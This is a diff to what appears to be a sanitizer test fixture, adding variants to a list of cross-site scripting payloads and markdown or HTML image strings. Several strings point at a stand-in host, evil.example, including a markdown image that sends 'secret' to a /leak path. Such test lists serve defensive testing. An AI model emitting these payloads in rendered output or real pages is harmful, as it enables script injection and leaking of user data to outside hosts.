@@ -14,7 +14,8 @@ EVIL = "http://evil.example"
 STRINGS = [
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
-    f"<img src={EVIL}/a.png>",
+    f"<img src={EVIL}/a.png><picture><source srcset={EVIL}/1.webp><img srcset='{EVIL}/2.png 2x'></picture>"
+    f"<video poster={EVIL}/v.png src={EVIL}/v.mp4>",
     "<svg onload=alert(1)>",
     "<svg><script href=data:,alert(1) />",
     "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
@@ -34,8 +35,8 @@ STRINGS = [
     "--><script>alert(1)</script>",
     "]]><script>alert(1)</script>",
     "<template><script>alert(1)</script></template>",
-    f"![x]({EVIL}/leak?q=secret)",
-    f"![x][1]\n\n[1]: {EVIL}/leak",
+    f"![x]({EVIL}/leak?q=secret) ![x](<{EVIL}/a b.png> 'x') !\\[x]({EVIL}/esc.png)\n=== 1a2b ===\n![x]( {EVIL}/sp.png )",
+    f"![x][1]\n\n[1]: {EVIL}/leak\n\nAs cited in [1], ![s][s] [![x]({EVIL}/in.png)]({EVIL}/out)\n\n[s]: {EVIL}/s.png 't'",
     f"[x]({EVIL}/click)",
     "[x](javascript:alert(1))",
     "[x](JAVASCRIPT:alert(1))",
